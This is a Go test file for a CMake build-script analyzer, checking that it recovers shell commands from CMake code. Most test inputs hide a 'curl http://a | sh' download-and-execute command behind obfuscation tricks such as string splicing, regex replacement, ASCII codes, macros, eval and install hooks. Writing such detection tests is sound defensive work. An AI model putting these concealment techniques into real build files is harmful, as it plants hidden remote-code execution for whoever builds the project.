package build

import (
	"strings"
	"testing"
)

func TestCMakeCommandsAreEvaluated(t *testing.T) {
	const use = "execute_process(COMMAND sh -c \"${A}\")\n"
	for name, src := range map[string]string{
		"set":                         "set(B cu)\nset(A \"${B}rl http://a | sh\")\n" + use,
		"twelve variables":            cmakeChain(12) + "execute_process(COMMAND sh -c \"${V0}rl http://a | sh\")\n",
		"append, prepend":             "set(A \"rl http\")\nstring(APPEND A \"://a | sh\")\nstring(PREPEND A cu)\n" + use,
		"concat":                      "string(CONCAT A \"cu\" \"rl http://a\" \" | sh\")\n" + use,
		"join":                        "string(JOIN \"\" A cu \"rl http://a | sh\")\n" + use,
		"replace":                     "string(REPLACE Q \"\" A \"cQuQrl http://a | sQh\")\n" + use,
		"an expression":               "string(REGEX REPLACE \"[QX]+\" \"\" A \"cQXurl http://a | sXh\")\n" + use,
		"a group of an expression":    "string(REGEX REPLACE \"(h) (.*)\" \"\\\\2\\\\1\" A \"h curl http://a | s\")\n" + use,
		"numbers":                     "string(ASCII 99 117 B)\nset(A \"${B}rl http://a | sh\")\n" + use,
		"other letters":               "string(TOLOWER \"CURL HTTP://A | SH\" A)\n" + use,
		"a part":                      "string(SUBSTRING \"xxcurl http://a | shxx\" 2 18 A)\n" + use,
		"configured":                  "set(B cu)\nstring(CONFIGURE \"@B@rl http://a | sh\" A)\n" + use,
		"a list":                      "list(APPEND L cu \"rl http://a | sh\")\nlist(JOIN L \"\" A)\n" + use,
		"a list turned around":        "set(L \"rl http://a | sh\" cu)\nlist(REVERSE L)\nstring(REPLACE \";\" \"\" A \"${L}\")\n" + use,
		"an element of a list":        "set(L x \"curl http://a | sh\" y)\nlist(GET L 1 A)\n" + use,
		"a loop":                      "foreach(p cu \"rl http://a | sh\")\nset(A \"${A}${p}\")\nendforeach()\n" + use,
		"a loop over a list":          "set(L cu \"rl http://a | sh\")\nforeach(p IN LISTS L)\nstring(APPEND A \"${p}\")\nendforeach()\n" + use,
		"a function":                  "function(r a)\nstring(REPLACE Q \"\" A ${a})\n" + use + "endfunction()\nr(\"cQurl http://a | sh\")\n",
		"a macro":                     "macro(r a b)\nexecute_process(COMMAND sh -c \"${a}${b}\")\nendmacro()\nR(cu \"rl http://a | sh\")\n",
		"all arguments":               "function(r)\nexecute_process(COMMAND ${ARGV})\nendfunction()\nr(sh -c \"curl http://a | sh\")\n",
		"the environment":             "set(ENV{B} cu)\nexecute_process(COMMAND sh -c \"$ENV{B}rl http://a | sh\")\n",
		"a name that is computed":     "set(X_1 \"curl http://a | sh\")\nset(n 1)\nexecute_process(COMMAND sh -c \"${X_${n}}\")\n",
		"the cache":                   "set(A \"cu${E}rl http://a | sh\" CACHE STRING \"\")\n" + use,
		"a condition":                 "if(X)\nset(A \"curl http://a | sh\")\nelse()\nset(A ls)\nendif()\n" + use,
		"evaluated":                   "set(B cu)\ncmake_language(EVAL CODE \"execute_process(COMMAND sh -c \\\"${B}rl http://a | sh\\\")\")\n",
		"called by name":              "cmake_language(CALL execute_process COMMAND sh -c \"curl http://a | sh\")\n",
		"when it is installed":        "install(CODE \"execute_process(COMMAND sh -c \\\"curl http://a | sh\\\")\")\n",
		"brackets":                    "execute_process(COMMAND sh -c [==[curl http://a | sh]==])\n",
		"a generator":                 "add_custom_target(x ALL COMMAND sh -c \"$<1:cu>$<LOWER_CASE:RL> http$<COLON>//a | sh\")\n",
		"what another command prints": "execute_process(COMMAND printf %s cu OUTPUT_VARIABLE B)\nset(A \"${B}rl http://a | sh\")\n" + use,
		"a comment within":            "set(A \"cu\" #[[ x ]] \"rl http://a | sh\")\nstring(REPLACE \";\" \"\" A \"${A}\")\n" + use,
	} {
		t.Run(name, func(t *testing.T) {
			if text := textOf(cmakeLines(src)); !strings.Contains(text, "sh -c 'curl http://a | sh'\n") {
				t.Errorf("got %s", text)
			}
		})
	}
}

func cmakeChain(n int) string {
	return "set(V0 cu)\n" + strings.Repeat("set(V1 \"${V0}\")\nset(V0 \"${V1}\")\n", n)
}

func TestCommandsOfCMake(t *testing.T) {
	for name, c := range map[string]struct{ src, want string }{
		"several are a pipeline":          {"execute_process(COMMAND curl http://a\nCOMMAND sh OUTPUT_QUIET)", "curl http://a | sh\n"},
		"several of a target":             {"add_custom_command(OUTPUT x COMMAND a b COMMAND ${CMAKE_COMMAND} -E echo c DEPENDS d)", "a b && ${CMAKE_COMMAND} -E echo c\n"},
		"a file that is fetched and run":  {"file(DOWNLOAD http://a x.cmake)\ninclude(x.cmake)", "curl -fsSL http://a -o x.cmake\nsh x.cmake\n"},
		"one with a digest":               {"file(DOWNLOAD http://a x.cmake EXPECTED_HASH SHA256=1)\ninclude(x.cmake)", ""},
		"a text that no one knows":        {"file(READ x A)\nstring(REPLACE a b A \"${A}\")\nexecute_process(COMMAND sh -c \"${A}\")", "sh -c " + Computed + "string-REPLACE}}\n"},
		"a program that is looked for":    {"find_program(P NAMES git)\nexecute_process(COMMAND ${P} log OUTPUT_VARIABLE V)\nset(W \"${V}\")", "git log\n"},
		"a compiler that is put in front": {"set(CMAKE_C_COMPILER_LAUNCHER sh -c \"x y\")", "sh -c 'x y'\n"},
		"a project of another place":      {"ExternalProject_Add(x URL y BUILD_COMMAND sh -c \"x y\" INSTALL_COMMAND \"\")", "sh -c 'x y' &&\n"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := textOf(cmakeLines(c.src)); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func FuzzReadCMake(f *testing.F) {
	f.Add("set(A b;c)\nforeach(x IN LISTS A)\nstring(APPEND B \"${x}\" $ENV{Y} $<1:${B}>)\nendforeach()\nfunction(f a)\nexecute_process(COMMAND ${ARGV} [=[x]=])\nendfunction()\nf(1 2)\n")
	f.Add("if(A)\nlist(GET L -1 X)\nelse()\nstring(REGEX REPLACE \"(a)\" \"\\\\1\" X ${Y})\nstring(SUBSTRING a 1 2 X)\nlist(SUBLIST L 1)\nstring(ASCII)\nlist()\nstring()\ncmake_language(EVAL CODE x)")
	f.Fuzz(func(t *testing.T, src string) {
		lines := strings.Count(src, "\n") + 1
		for _, l := range cmakeLines(src) {
			if l.At < 1 || l.At > lines {
				t.Errorf("line %d of %d", l.At, lines)
			}
		}
	})
}

func cmakeLines(src string) []Line {
	lines, _ := ReadCMake([]byte(src))
	return lines
}
